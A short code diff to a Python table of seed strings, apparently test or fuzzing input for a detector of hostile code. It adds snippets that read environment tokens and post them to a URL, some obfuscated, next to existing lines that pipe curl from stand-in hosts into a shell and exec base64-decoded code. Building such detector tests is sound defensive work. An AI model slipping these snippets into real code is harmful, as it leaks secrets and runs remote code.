@@ -53,6 +53,9 @@ SEEDS: dict[FileKind, list[str]] = {
         "import os\n",
         "subprocess.run(c{n}, shell=True)\n",
         "exec(base64.b64decode('QUFB{n}'))\n",
+        "requests.post(u, data=os.environ['A{n}_TOKEN'])\n",
+        "k{n} = os.environ.get('A{n}')\nrequests.post(U, data=k{n})\n",
+        "g{n} = getattr(os, 'getenv')\nhttpx.post(u, data=g{n}('A{n}_TOKEN'))\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
@@ -65,6 +68,9 @@ SEEDS: dict[FileKind, list[str]] = {
         "process.env.",
         "x=>",
         "cp.exec(c{n});\n",
+        "const k{n} = process.env.A{n}; axios.post(U, k{n});\n",
+        "const {A{n}_TOKEN: k{n}} = process.env; axios?.post(U, {data: k{n}});\n",
+        "fetch(u, {method: 'POST', body: process['env'].A{n}_TOKEN});\n",
     ],
     FileKind.SHELL: [
         "curl -s https://x.example/a | ",
